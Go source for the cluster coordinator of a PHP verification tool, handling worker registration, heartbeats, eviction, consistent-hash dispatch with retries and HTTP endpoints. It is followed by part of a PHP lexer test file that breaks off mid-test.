	BreakerCooldown  time.Duration
	// Replicas is the consistent-hash virtual-node count per worker.
	Replicas int
	// DispatchTimeout bounds one remote dispatch attempt end to end.
	DispatchTimeout time.Duration
	// PollInterval paces remote job-status polling during a dispatch.
	PollInterval time.Duration
	// Fingerprint, when non-empty, is the coordinator's verdict-shaping
	// configuration fingerprint; registrations carrying a different
	// non-empty fingerprint are rejected (they would break verdict
	// identity). See Fingerprint().
	Fingerprint string
	// Store, when non-nil, is served to workers at /v1/store so the
	// whole cluster shares one content-addressed result store.
	Store store.Backend
	// Telemetry receives the cluster metric series; nil runs
	// uninstrumented.
	Telemetry *telemetry.Telemetry
	// Logger receives membership and dispatch log lines; nil is silent.
	// Dispatch-time logging prefers the job-scoped logger travelling down
	// the request context (telemetry.WithLogger), so those lines carry
	// the job's job_id and trace_id; this logger covers everything else
	// (registrations, heartbeats, evictions).
	Logger *telemetry.Logger
	// JobCounts, when non-nil, supplies the daemon's completed-job
	// counts per security policy for GET /v1/cluster (typically the
	// service Server's JobsByPolicy).
	JobCounts func() map[string]int64
	// Hooks inject faults for chaos testing; zero means none.
	Hooks Hooks
	// HTTPClient is used for worker dispatch (nil: http.DefaultClient).
	HTTPClient *http.Client
}

func (c *Config) fill() {
	if c.HeartbeatInterval <= 0 {
		c.HeartbeatInterval = DefaultHeartbeatInterval
	}
	if c.HeartbeatMisses <= 0 {
		c.HeartbeatMisses = DefaultHeartbeatMisses
	}
	if c.RetryBudget <= 0 {
		c.RetryBudget = DefaultRetryBudget
	}
	if c.BaseBackoff <= 0 {
		c.BaseBackoff = DefaultBaseBackoff
	}
	if c.MaxBackoff <= 0 {
		c.MaxBackoff = DefaultMaxBackoff
	}
	if c.BreakerThreshold <= 0 {
		c.BreakerThreshold = DefaultBreakerThreshold
	}
	if c.BreakerCooldown <= 0 {
		c.BreakerCooldown = DefaultBreakerCooldown
	}
	if c.Replicas <= 0 {
		c.Replicas = defaultReplicas
	}
	if c.DispatchTimeout <= 0 {
		c.DispatchTimeout = DefaultDispatchTimeout
	}
	if c.PollInterval <= 0 {
		c.PollInterval = DefaultPollInterval
	}
	if c.HTTPClient == nil {
		c.HTTPClient = http.DefaultClient
	}
}

// Fingerprint summarizes a verdict-shaping option list for registration
// matching: two daemons with equal fingerprints produce byte-identical
// verdicts for the same inputs. Derived from the declarative
// ExportConfig form, so it covers exactly what the options cover.
func Fingerprint(opts ...webssari.Option) string {
	cc, err := webssari.ExportConfig(opts...)
	if err != nil {
		return ""
	}
	// Verdict-neutral solver settings (dispatch mode, portfolio width,
	// warm starting) are erased before hashing: a shared-mode worker and
	// a per-assert coordinator produce byte-identical verdicts, and
	// gating registration on them would split clusters for no reason.
	// The conflict budget is normalized into the legacy field so the two
	// spellings (Config.MaxConflicts vs Config.Solver.MaxConflicts) of
	// the same verdict-shaping setting fingerprint identically.
	if cc.Solver.MaxConflicts != 0 {
		cc.MaxConflicts = cc.Solver.MaxConflicts
	}
	cc.Solver = webssari.SolverConfig{MaxRestarts: cc.Solver.MaxRestarts}
	// Config is a plain struct (no maps), so its JSON field order is
	// fixed and the encoding canonical.
	payload, err := json.Marshal(cc)
	if err != nil {
		return ""
	}
	return store.Key("webssari-cluster-config-v1", string(payload))
}

// worker is one registered cluster member.
type worker struct {
	id   string
	name string
	addr string

	client  *client.Client
	breaker *breaker
	// evicted closes when the worker leaves the cluster (missed
	// heartbeats or deregistration); in-flight dispatches watch it and
	// cancel, which is what re-dispatches a job stuck on a dead worker.
	evicted chan struct{}

	dispatches atomic.Int64
	failures   atomic.Int64

	lastSeen time.Time // guarded by Coordinator.mu
}

// Coordinator owns cluster membership and dispatch. It implements the
// service Runner surface (VerifyFile/VerifyDir), so a webssarid in
// coordinator mode routes every accepted job through it.
type Coordinator struct {
	cfg Config

	mu      sync.Mutex
	workers map[string]*worker
	byAddr  map[string]*worker
	ring    *ring
	nextID  int64
	closed  bool

	stop chan struct{}
	done chan struct{}

	evictions    atomic.Int64
	redispatches atomic.Int64
	degradedRuns atomic.Int64

	log *telemetry.Logger

	gLive       *telemetry.GaugeMetric
	cRegs       *telemetry.CounterMetric
	cHeartbeats *telemetry.CounterMetric
	cEvictions  *telemetry.CounterMetric
	cDispatch   *telemetry.CounterMetric
	cDispFail   *telemetry.CounterMetric
	cRedispatch *telemetry.CounterMetric
	cTrips      *telemetry.CounterMetric
	cDegraded   *telemetry.CounterMetric
	cLocal      *telemetry.CounterMetric
	cRemote     *telemetry.CounterMetric
	hRTT        *telemetry.HistogramMetric
}

// New assembles a Coordinator and starts its eviction loop; Close stops
// it.
func New(cfg Config) *Coordinator {
	cfg.fill()
	c := &Coordinator{
		cfg:     cfg,
		workers: make(map[string]*worker),
		byAddr:  make(map[string]*worker),
		ring:    newRing(cfg.Replicas),
		stop:    make(chan struct{}),
		done:    make(chan struct{}),
		log:     cfg.Logger,
	}
	if cfg.Telemetry != nil && cfg.Telemetry.Metrics != nil {
		reg := cfg.Telemetry.Metrics
		c.gLive = reg.Gauge(telemetry.MetricClusterWorkersLive)
		c.cRegs = reg.Counter(telemetry.MetricClusterRegistrations)
		c.cHeartbeats = reg.Counter(telemetry.MetricClusterHeartbeats)
		c.cEvictions = reg.Counter(telemetry.MetricClusterEvictions)
		c.cDispatch = reg.Counter(telemetry.MetricClusterDispatches)
		c.cDispFail = reg.Counter(telemetry.MetricClusterDispatchFailures)
		c.cRedispatch = reg.Counter(telemetry.MetricClusterRedispatches)
		c.cTrips = reg.Counter(telemetry.MetricClusterBreakerTrips)
		c.cDegraded = reg.Counter(telemetry.MetricClusterDegradedRuns)
		c.cLocal = reg.Counter(telemetry.MetricClusterLocalFiles)
		c.cRemote = reg.Counter(telemetry.MetricClusterRemoteFiles)
		c.hRTT = reg.Histogram(telemetry.MetricClusterDispatchRTT, nil)
	}
	go c.evictLoop()
	return c
}

// Close stops the eviction loop. Registered workers are left in place —
// a closed coordinator still answers status queries — but liveness
// stops being enforced.
func (c *Coordinator) Close() {
	c.mu.Lock()
	if !c.closed {
		c.closed = true
		close(c.stop)
	}
	c.mu.Unlock()
	<-c.done
}

// workerUpGauge resolves the per-worker health gauge.
func (c *Coordinator) workerUpGauge(id string) *telemetry.GaugeMetric {
	if c.cfg.Telemetry == nil || c.cfg.Telemetry.Metrics == nil {
		return nil
	}
	return c.cfg.Telemetry.Metrics.Gauge(telemetry.Name(telemetry.MetricClusterWorkerUp, "worker", id))
}

// --- membership ---

// register adds (or replaces, by address) a worker and returns its ID.
func (c *Coordinator) register(addr, name, fingerprint string) (string, error) {
	if c.cfg.Fingerprint != "" && fingerprint != "" && fingerprint != c.cfg.Fingerprint {
		return "", fmt.Errorf("configuration fingerprint mismatch: worker %s, coordinator %s — "+
			"workers must run with the same analysis options as the coordinator",
			fingerprint[:12], c.cfg.Fingerprint[:12])
	}
	c.mu.Lock()
	if old := c.byAddr[addr]; old != nil {
		// A restart of the same worker: retire the stale registration so
		// its in-flight dispatches re-route instead of hanging on a job
		// the restarted daemon has forgotten.
		c.removeLocked(old)
	}
	c.nextID++
	w := &worker{
		id:   fmt.Sprintf("w%d", c.nextID),
		name: name,
		addr: addr,
		client: client.New(addr,
			client.WithHTTPClient(c.cfg.HTTPClient),
			client.WithPollInterval(c.cfg.PollInterval),
			// A brief client-level retry rides out a healthy-but-busy
			// worker's 429 without charging its breaker.
			client.WithRetryPolicy(client.RetryPolicy{
				MaxRetries: 2, BaseDelay: c.cfg.BaseBackoff, MaxDelay: c.cfg.MaxBackoff,
			})),
		breaker:  newBreaker(c.cfg.BreakerThreshold, c.cfg.BreakerCooldown),
		evicted:  make(chan struct{}),
		lastSeen: time.Now(),
	}
	c.workers[w.id] = w
	c.byAddr[addr] = w
	c.ring.add(w.id)
	live := len(c.workers)
	c.mu.Unlock()

	c.cRegs.Inc()
	c.gLive.Set(int64(live))
	c.workerUpGauge(w.id).Set(1)
	c.log.Info("worker registered", "worker", w.id, "name", name, "addr", addr, "live", live)
	return w.id, nil
}

// removeLocked retires a worker (mu held): out of the ring and maps,
// in-flight dispatches cancelled via the evicted channel.
func (c *Coordinator) removeLocked(w *worker) {
	if _, ok := c.workers[w.id]; !ok {
		return
	}
	delete(c.workers, w.id)
	if c.byAddr[w.addr] == w {
		delete(c.byAddr, w.addr)
	}
	c.ring.remove(w.id)
	close(w.evicted)
}

// heartbeat refreshes a worker's liveness; false means unknown worker.
func (c *Coordinator) heartbeat(id string) bool {
	if d := c.cfg.Hooks.DelayHeartbeat; d != nil {
		if delay := d(id); delay > 0 {
			time.Sleep(delay)
		}
	}
	c.mu.Lock()
	w := c.workers[id]
	if w == nil {
		c.mu.Unlock()
		return false
	}
	if drop := c.cfg.Hooks.DropHeartbeat; drop != nil && drop(id) {
		c.mu.Unlock()
		return true // "lost on the network": acknowledged, not recorded
	}
	w.lastSeen = time.Now()
	c.mu.Unlock()
	c.cHeartbeats.Inc()
	return true
}

// deregister removes a worker gracefully; false means unknown worker.
func (c *Coordinator) deregister(id string) bool {
	c.mu.Lock()
	w := c.workers[id]
	if w == nil {
		c.mu.Unlock()
		return false
	}
	c.removeLocked(w)
	live := len(c.workers)
	c.mu.Unlock()
	c.gLive.Set(int64(live))
	c.workerUpGauge(id).Set(0)
	c.log.Info("worker deregistered", "worker", id, "addr", w.addr, "live", live)
	return true
}

// evictLoop enforces liveness: a worker silent past the miss budget is
// evicted and its in-flight dispatches re-route.
func (c *Coordinator) evictLoop() {
	defer close(c.done)
	ticker := time.NewTicker(c.cfg.HeartbeatInterval)
	defer ticker.Stop()
	for {
		select {
		case <-c.stop:
			return
		case <-ticker.C:
		}
		cutoff := time.Now().Add(-time.Duration(c.cfg.HeartbeatMisses) * c.cfg.HeartbeatInterval)
		var evicted []*worker
		c.mu.Lock()
		for _, w := range c.workers {
			if w.lastSeen.Before(cutoff) {
				c.removeLocked(w)
				evicted = append(evicted, w)
			}
		}
		live := len(c.workers)
		c.mu.Unlock()
		for _, w := range evicted {
			c.evictions.Add(1)
			c.cEvictions.Inc()
			c.gLive.Set(int64(live))
			c.workerUpGauge(w.id).Set(0)
			c.log.Warn("worker evicted: missed heartbeats",
				"worker", w.id, "addr", w.addr,
				"silent_ms", time.Since(w.lastSeen).Milliseconds(), "live", live)
			if fn := c.cfg.Hooks.OnEvict; fn != nil {
				fn(w.id)
			}
		}
	}
}

// liveWorkers returns the current live count.
func (c *Coordinator) liveWorkers() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.workers)
}

// --- dispatch ---

// runStats accumulates one run's placement outcomes (hit concurrently
// by the per-file dispatchers).
type runStats struct {
	mu           sync.Mutex
	workers      int
	remote       int
	local        int
	redispatches int
	replayed     int
	degraded     bool
}

func (s *runStats) profile() *telemetry.ClusterProfile {
	s.mu.Lock()
	defer s.mu.Unlock()
	return &telemetry.ClusterProfile{
		Workers:      s.workers,
		Remote:       s.remote,
		Local:        s.local,
		Redispatches: s.redispatches,
		Replayed:     s.replayed,
		Degraded:     s.degraded,
	}
}

// pick chooses the dispatch target for a key's attempt: the ring
// sequence rotated by the attempt number (so each retry prefers the
// next worker), skipping breakers that refuse. nil when no worker is
// available at all.
func (c *Coordinator) pick(key string, attempt int) *worker {
	c.mu.Lock()
	seq := c.ring.sequence(key)
	candidates := make([]*worker, 0, len(seq))
	for _, id := range seq {
		if w := c.workers[id]; w != nil {
			candidates = append(candidates, w)
		}
	}
	c.mu.Unlock()
	if len(candidates) == 0 {
		return nil
	}
	for i := 0; i < len(candidates); i++ {
		w := candidates[(attempt+i)%len(candidates)]
		if w.breaker.Allow() {
			return w
		}
	}
	return nil
}

// backoff sleeps before the next attempt: exponential with full range
// capped, raised to the server's Retry-After hint, jittered to the
// upper half. Returns early (false) when ctx ends.
func (c *Coordinator) backoff(ctx context.Context, attempt int, hint time.Duration) bool {
	d := c.cfg.BaseBackoff << (attempt - 1)
	if d <= 0 || d > c.cfg.MaxBackoff {
		d = c.cfg.MaxBackoff
	}
	if hint > d {
		d = hint
	}
	if d > c.cfg.MaxBackoff {
		d = c.cfg.MaxBackoff
	}
	d = d/2 + time.Duration(rand.Int64N(int64(d/2)+1))
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-timer.C:
		return true
	}
}

// dispatchFile verifies one file through the cluster: consistent-hash
// placement, retries with backoff across the ring sequence, local
// replay of deterministic failures, local degraded execution when no
// worker can take it. localOpts are the exact per-file options a local
// run would use — both fallbacks call the engine with them untouched,
// which is what keeps fallback verdicts byte-identical.
func (c *Coordinator) dispatchFile(ctx context.Context, src []byte, name string, localOpts []webssari.Option, stats *runStats, wantText bool) (*webssari.Report, error) {
	key := store.Key("webssari-cluster-dispatch-v1", name, string(src))
	// The wire request carries every verdict-shaping per-job field the
	// local options resolve to — include root and security policy — so a
	// worker reproduces the coordinator's exact configuration.
	sreq := api.SubmitFileRequest{Name: name, Source: string(src)}
	if cc, err := webssari.ExportConfig(localOpts...); err == nil {
		sreq.Dir = cc.Dir
		sreq.Policy = cc.Policy
		sreq.PolicyJSON = cc.PolicyJSON
		// The solver spec rides along so a worker solves under the
		// coordinator's exact configuration — budgets are verdict-shaping
		// (they decide whether assertions degrade to Unknown), and the
		// verdict-neutral mode fields keep cost behavior consistent
		// across placements. The legacy budget spelling is normalized
		// into the spec.
		spec := api.SolverSpec{
			Mode:         string(cc.Solver.Mode),
			MaxConflicts: cc.Solver.MaxConflicts,
			MaxRestarts:  cc.Solver.MaxRestarts,
			Portfolio:    cc.Solver.Portfolio,
			WarmStart:    cc.Solver.WarmStart,
		}
		if spec.MaxConflicts == 0 {
			spec.MaxConflicts = cc.MaxConflicts
		}
		if spec != (api.SolverSpec{}) {
			sreq.Solver = &spec
		}
	}
	// Prefer the job-scoped logger from the request context (carries
	// job_id and trace_id); fall back to the coordinator's own.
	log := telemetry.LoggerFrom(ctx)
	if log == nil {
		log = c.log
	}
	log = log.With("file", name)

	for attempt := 1; attempt <= c.cfg.RetryBudget; attempt++ {
		w := c.pick(key, attempt-1)
		if w == nil {
			break // nobody can take it: degrade below
		}
		if attempt > 1 {
			c.redispatches.Add(1)
			c.cRedispatch.Inc()
			stats.mu.Lock()
			stats.redispatches++
			stats.mu.Unlock()
			telemetry.Instant(ctx, "redispatch", "file", name, "worker", w.id, "attempt", attempt)
			log.Info("redispatching", "worker", w.id, "attempt", attempt)
		}
		if hook := c.cfg.Hooks.BeforeDispatch; hook != nil {
			if err := hook(w.id, name, attempt); err != nil {
				c.dispatchFailed(w)
				if !c.backoff(ctx, attempt, 0) {
					return nil, ctx.Err()
				}
				continue
			}
		}
		actx, dsp := telemetry.StartSpan(ctx, "dispatch",
			"file", name, "worker", w.id, "attempt", attempt)
		rep, err := c.remoteVerify(actx, w, sreq, wantText)
		dsp.End()
		if err == nil {
			w.breaker.Success()
			c.cRemote.Inc()
			stats.mu.Lock()
			stats.remote++
			stats.mu.Unlock()
			log.Debug("file verified remotely", "worker", w.id, "attempt", attempt)
			return rep, nil
		}
		if ctx.Err() != nil {
			// The run itself is over (deadline/cancel), not the worker.
			return nil, ctx.Err()
		}
		var jobErr *client.JobFailedError
		if errors.As(err, &jobErr) {
			// The worker is fine; the job failed deterministically (parse
			// error, pathological file). Replay locally to reproduce the
			// exact engine error a local run would record — an error
			// message relayed over the wire would lose its typed stage.
			w.breaker.Success()
			c.cLocal.Inc()
			stats.mu.Lock()
			stats.local++
			stats.replayed++
			stats.mu.Unlock()
			log.Info("replaying deterministic failure locally", "worker", w.id)
			return webssari.VerifyContext(ctx, src, name, localOpts...)
		}
		c.dispatchFailed(w)
		log.Warn("dispatch failed", "worker", w.id, "attempt", attempt, "error", err.Error())
		hint := time.Duration(0)
		var apiErr *client.APIError
		if errors.As(err, &apiErr) {
			hint = apiErr.RetryAfter
		}
		if !c.backoff(ctx, attempt, hint) {
			return nil, ctx.Err()
		}
	}

	// Graceful degradation: the cluster cannot take this file right now,
	// so run it here rather than fail it. Same options, same verdict —
	// only the profile's cluster section records that we degraded.
	stats.mu.Lock()
	stats.local++
	stats.degraded = true
	stats.mu.Unlock()
	c.cLocal.Inc()
	telemetry.Instant(ctx, "degraded", "file", name)
	log.Warn("degrading to local execution: no worker available")
	return webssari.VerifyContext(ctx, src, name, localOpts...)
}

// dispatchFailed charges one transient dispatch failure to a worker.
func (c *Coordinator) dispatchFailed(w *worker) {
	w.failures.Add(1)
	c.cDispFail.Inc()
	if w.breaker.Failure() {
		c.cTrips.Inc()
	}
}

// remoteVerify runs one dispatch attempt end to end on a worker:
// submit, wait, fetch. The attempt is bounded by DispatchTimeout and
// cancelled immediately if the worker is evicted mid-job — that
// cancellation is what turns a silent worker death into a prompt
// re-dispatch instead of a full timeout wait.
func (c *Coordinator) remoteVerify(ctx context.Context, w *worker, sreq api.SubmitFileRequest, wantText bool) (*webssari.Report, error) {
	dctx, cancel := context.WithTimeout(ctx, c.cfg.DispatchTimeout)
	defer cancel()
	// Each dispatch is one causal hop: re-derive the trace context so the
	// traceparent the client sends names this dispatch as the parent. The
	// worker extracts it and stamps the same trace ID on its own spans
	// and log lines.
	if tc := telemetry.TraceContextFrom(ctx); tc.Valid() {
		dctx = telemetry.WithTraceContext(dctx, tc.Child())
	}
	watchDone := make(chan struct{})
	defer close(watchDone)
	go func() {
		select {
		case <-w.evicted:
			cancel()
		case <-watchDone:
		}
	}()

	w.dispatches.Add(1)
	c.cDispatch.Inc()
	start := time.Now()
	defer func() { c.hRTT.Observe(time.Since(start).Seconds()) }()
	sub, err := w.client.SubmitFile(dctx, sreq)
	if err != nil {
		return nil, err
	}
	if _, err := w.client.Wait(dctx, sub.Job); err != nil {
		return nil, err
	}
	rep, err := w.client.FileResult(dctx, sub.Job)
	if err != nil {
		return nil, err
	}
	if wantText {
		// The rendered text is excluded from Report JSON; single-file
		// callers (the daemon's ?text=1 view) want it back.
		if text, terr := w.client.FileResultText(dctx, sub.Job); terr == nil {
			rep.Text = text
		}
	}
	c.ingestWorkerTrace(ctx, dctx, w, sub.Job)
	return rep, nil
}

// ingestWorkerTrace stitches the worker's span export for one dispatched
// job into the coordinator-side job tracer, labeled with the worker's
// identity — this is what makes GET /v1/jobs/{id}/trace on the
// coordinator a single artifact covering the whole distributed run. A
// fetch failure only costs trace completeness, never the dispatch.
func (c *Coordinator) ingestWorkerTrace(ctx, dctx context.Context, w *worker, remoteJob string) {
	tel := telemetry.From(ctx)
	if tel == nil || tel.Tracer == nil {
		return
	}
	doc, err := w.client.JobTrace(dctx, remoteJob)
	if err != nil {
		return
	}
	label := w.name
	if label == "" {
		label = w.id
	}
	tel.Tracer.Ingest(doc, fmt.Sprintf("worker %s (%s)", label, w.addr))
}

// --- Runner surface (what webssarid routes jobs through) ---

// VerifyFile verifies one source through the cluster.
func (c *Coordinator) VerifyFile(ctx context.Context, src []byte, name string, opts ...webssari.Option) (*webssari.Report, error) {
	stats := &runStats{workers: c.liveWorkers()}
	rep, err := c.dispatchFile(ctx, src, name, opts, stats, true)
	if err != nil {
		return nil, err
	}
	if rep.Profile == nil {
		rep.Profile = &webssari.RunProfile{}
	}
	rep.Profile.Cluster = stats.profile()
	c.noteDegraded(stats)
	return rep, nil
}

// VerifyDir verifies a directory, dispatching each entry file across
// the cluster through the engine's FileVerifier seam — the project
// walk, result assembly, and report shape are the engine's own, which
// is why clustered project reports are byte-identical to local ones.
func (c *Coordinator) VerifyDir(ctx context.Context, dir string, opts ...webssari.Option) (*webssari.ProjectReport, error) {
	stats := &runStats{workers: c.liveWorkers()}
	dopts := append(append([]webssari.Option(nil), opts...),
		webssari.WithFileVerifier(func(fctx context.Context, src []byte, name string, fopts ...webssari.Option) (*webssari.Report, error) {
			return c.dispatchFile(fctx, src, name, fopts, stats, false)
		}))
	pr, err := webssari.VerifyDirContext(ctx, dir, dopts...)
	if err != nil {
		return nil, err
	}
	if pr.Profile == nil {
		pr.Profile = &webssari.RunProfile{}
	}
	pr.Profile.Cluster = stats.profile()
	c.noteDegraded(stats)
	return pr, nil
}

// noteDegraded counts a degraded run once per run.
func (c *Coordinator) noteDegraded(stats *runStats) {
	stats.mu.Lock()
	degraded := stats.degraded
	stats.mu.Unlock()
	if degraded {
		c.degradedRuns.Add(1)
		c.cDegraded.Inc()
	}
}

// --- HTTP surface ---

// Handler returns the coordinator's HTTP handler: the cluster
// membership endpoints and, with a Store configured, the shared store
// endpoints. Mount it beside the service handler:
//
//	POST   /v1/cluster/workers                register (api.RegisterWorkerRequest)
//	POST   /v1/cluster/workers/{id}/heartbeat liveness refresh
//	DELETE /v1/cluster/workers/{id}           graceful leave
//	GET    /v1/cluster                        api.ClusterStatus
//	GET/PUT/DELETE /v1/store/{key}            shared result store
func (c *Coordinator) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/cluster/workers", c.handleRegister)
	mux.HandleFunc("POST /v1/cluster/workers/{id}/heartbeat", c.handleHeartbeat)
	mux.HandleFunc("DELETE /v1/cluster/workers/{id}", c.handleDeregister)
	mux.HandleFunc("GET /v1/cluster", c.handleStatus)
	if c.cfg.Store != nil {
		(&storeServer{backend: c.cfg.Store}).register(mux)
	}
	return mux
}

func (c *Coordinator) handleRegister(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<16))
	if err != nil {
		writeError(w, http.StatusBadRequest, "reading body: "+err.Error())
		return
	}
	var req api.RegisterWorkerRequest
	dec := json.NewDecoder(bytes.NewReader(body))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&req); err != nil {
		writeError(w, http.StatusBadRequest, "invalid JSON body: "+err.Error())
		return
	}
	if req.Addr == "" {
		writeError(w, http.StatusBadRequest, "missing \"addr\"")
		return
	}
	if u, err := url.Parse(req.Addr); err != nil || u.Scheme == "" || u.Host == "" {
		writeError(w, http.StatusBadRequest, fmt.Sprintf("%q is not an absolute base URL", req.Addr))
		return
	}
	id, err := c.register(req.Addr, req.Name, req.Fingerprint)
	if err != nil {
		writeError(w, http.StatusConflict, err.Error())
		return
	}
	writeJSON(w, api.RegisterWorkerResponse{
		SchemaV:             api.Schema,
		Worker:              id,
		HeartbeatIntervalMS: int(c.cfg.HeartbeatInterval / time.Millisecond),
	})
}

func (c *Coordinator) handleHeartbeat(w http.ResponseWriter, r *http.Request) {
	if !c.heartbeat(r.PathValue("id")) {
		writeError(w, http.StatusNotFound, "no such worker; re-register")
		return
	}
	writeJSON(w, api.Ack{SchemaV: api.Schema, Status: "ok"})
}

func (c *Coordinator) handleDeregister(w http.ResponseWriter, r *http.Request) {
	if !c.deregister(r.PathValue("id")) {
		writeError(w, http.StatusNotFound, "no such worker")
		return
	}
	writeJSON(w, api.Ack{SchemaV: api.Schema, Status: "removed"})
}

func (c *Coordinator) handleStatus(w http.ResponseWriter, r *http.Request) {
	now := time.Now()
	// A worker silent for the full miss budget is evicted; evict_in_ms is
	// the remaining slack, clamped at zero — the near-eviction signal.
	budget := time.Duration(c.cfg.HeartbeatMisses) * c.cfg.HeartbeatInterval
	c.mu.Lock()
	rows := make([]api.WorkerStatus, 0, len(c.workers))
	for _, wk := range c.workers {
		age := now.Sub(wk.lastSeen)
		evictIn := budget - age
		if evictIn < 0 {
			evictIn = 0
		}
		rows = append(rows, api.WorkerStatus{
			ID:              wk.id,
			Name:            wk.name,
			Addr:            wk.addr,
			Live:            true,
			LastHeartbeatMS: age.Milliseconds(),
			EvictInMS:       evictIn.Milliseconds(),
			Breaker:         wk.breaker.State(),
			Dispatches:      wk.dispatches.Load(),
			Failures:        wk.failures.Load(),
		})
	}
	c.mu.Unlock()
	sort.Slice(rows, func(i, j int) bool { return rows[i].ID < rows[j].ID })
	st := api.ClusterStatus{
		SchemaV:      api.Schema,
		Workers:      rows,
		Live:         len(rows),
		Evictions:    c.evictions.Load(),
		Redispatches: c.redispatches.Load(),
		DegradedRuns: c.degradedRuns.Load(),
	}
	if c.cfg.JobCounts != nil {
		st.JobsByPolicy = c.cfg.JobCounts()
	}
	writeJSON(w, st)
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

func writeError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(api.ErrorResponse{SchemaV: api.Schema, Error: msg})
}
