package lexer

import (
	"strings"
	"testing"

	"webssari/internal/php/token"
)

// kindsOf lexes src and returns the token kinds, excluding EOF.
func kindsOf(t *testing.T, src string) []token.Kind {
	t.Helper()
	toks, errs := Tokenize("test.php", []byte(src))
	for _, err := range errs {
		t.Errorf("lex error: %v", err)
	}
	var kinds []token.Kind
	for _, tk := range toks {
		if tk.Kind == token.EOF {
			break
		}
		kinds = append(kinds, tk.Kind)
	}
	return kinds
}

func wantKinds(t *testing.T, src string, want ...token.Kind) {
	t.Helper()
	got := kindsOf(t, src)
	if len(got) != len(want) {
		t.Fatalf("src %q: got %v, want %v", src, got, want)
	}
	for i := range got {
		if got[i] != want[i] {
			t.Fatalf("src %q token %d: got %v, want %v", src, i, got[i], want[i])
		}
	}
}

func TestHTMLOnly(t *testing.T) {
	toks, errs := Tokenize("t", []byte("<html><body>hello</body></html>"))
	if len(errs) != 0 {
		t.Fatalf("errors: %v", errs)
	}
	if len(toks) != 2 || toks[0].Kind != token.InlineHTML || toks[1].Kind != token.EOF {
		t.Fatalf("got %v", toks)
	}
	if toks[0].Text != "<html><body>hello</body></html>" {
		t.Fatalf("html text = %q", toks[0].Text)
	}
}

func TestOpenCloseTags(t *testing.T) {
	wantKinds(t, "before<?php $x = 1; ?>after",
		token.InlineHTML, token.OpenTag, token.Variable, token.Assign,
		token.IntLit, token.Semicolon, token.CloseTag, token.InlineHTML)
}

func TestShortEchoTag(t *testing.T) {
	wantKinds(t, "<?= $x ?>", token.OpenEcho, token.Variable, token.CloseTag)
}

func TestShortOpenTag(t *testing.T) {
	wantKinds(t, "<? echo 1; ?>", token.OpenTag, token.KwEcho, token.IntLit,
		token.Semicolon, token.CloseTag)
}

func TestVariablesAndSuperglobals(t *testing.T) {
	toks, _ := Tokenize("t", []byte(`<?php $_GET; $_POST; $HTTP_REFERER; $x1_y;`))
	var names []string
	for _, tk := range toks {
		if tk.Kind == token.Variable {
			names = append(names, tk.Text)
		}
	}
	want := []string{"_GET", "_POST", "HTTP_REFERER", "x1_y"}
	if strings.Join(names, ",") != strings.Join(want, ",") {
		t.Fatalf("names = %v, want %v", names, want)
	}
}

func TestKeywordsCaseInsensitive(t *testing.T) {
	wantKinds(t, "<?php IF (1) { } ELSE { } WHILE Echo FUNCTION",
		token.OpenTag, token.KwIf, token.LParen, token.IntLit, token.RParen,
		token.LBrace, token.RBrace, token.KwElse, token.LBrace, token.RBrace,
		token.KwWhile, token.KwEcho, token.KwFunction)
}

func TestNumbers(t *testing.T) {
	toks, _ := Tokenize("t", []byte(`<?php 42 3.14 0xFF 1e3 2.5e-2 .5`))
	var got []string
	for _, tk := range toks {
		if tk.Kind == token.IntLit || tk.Kind == token.FloatLit {
			got = append(got, tk.Kind.String()+":"+tk.Text)
		}
	}
	want := []string{"INT:42", "FLOAT:3.14", "INT:0xFF", "FLOAT:1e3", "FLOAT:2.5e-2", "FLOAT:.5"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Fatalf("got %v want %v", got, want)
	}
}

func TestSingleQuotedString(t *testing.T) {
	toks, _ := Tokenize("t", []byte(`<?php 'it\'s a \\ test $x';`))
	if toks[1].Kind != token.StringLit {
		t.Fatalf("kind = %v", toks[1].Kind)
	}
	if toks[1].Text != `it's a \ test $x` {
		t.Fatalf("text = %q", toks[1].Text)
	}
}

func TestDoubleQuotedKeepsRaw(t *testing.T) {
	toks, _ := Tokenize("t", []byte(`<?php "hello $name\n";`))
	if toks[1].Kind != token.InterpString {
		t.Fatalf("kind = %v", toks[1].Kind)
	}
	if toks[1].Text != `hello $name\n` {
		t.Fatalf("raw = %q", toks[1].Text)
	}
}

func TestEscapedQuoteInDouble(t *testing.T) {
	toks, _ := Tokenize("t", []byte(`<?php "say \"hi\"";`))
	if toks[1].Text != `say \"hi\"` {
		t.Fatalf("raw = %q", toks[1].Text)
	}
}

func TestHeredoc(t *testing.T) {
	src := "<?php $q = <<<EOT\nline1 $x\nline2\nEOT;\n"
	toks, errs := Tokenize("t", []byte(src))
	if len(errs) != 0 {
		t.Fatalf("errors: %v", errs)
	}
	var found *token.Token
	for i := range toks {
		if toks[i].Kind == token.HeredocString {
			found = &toks[i]
		}
	}
	if found == nil {
		t.Fatalf("no heredoc token in %v", toks)
	}
	if found.Text != "line1 $x\nline2" {
		t.Fatalf("heredoc body = %q", found.Text)
	}
}

func TestNowdoc(t *testing.T) {
	src := "<?php $q = <<<'EOT'\nno $interp\nEOT;\n"
	toks, _ := Tokenize("t", []byte(src))
	var found *token.Token
	for i := range toks {
		if toks[i].Kind == token.StringLit {
			found = &toks[i]
		}
	}
	if found == nil || found.Text != "no $interp" {
		t.Fatalf("nowdoc not lexed as literal: %v", toks)
	}
}

func TestComments(t *testing.T) {
	wantKinds(t, "<?php // line\n# hash\n/* block\nmore */ $x;",
		token.OpenTag, token.Variable, token.Semicolon)
}

func TestCloseTagInsideLineComment(t *testing.T) {
	// PHP ends script mode at ?> even inside a // comment.
	wantKinds(t, "<?php $x; // trailing ?>html",
		token.OpenTag, token.Variable, token.Semicolon, token.CloseTag,
		token.InlineHTML)
}

func TestOperators(t *testing.T) {
	wantKinds(t, `<?php $a .= $b == $c === $d && $e || !$f ? $g : $h->i;`,
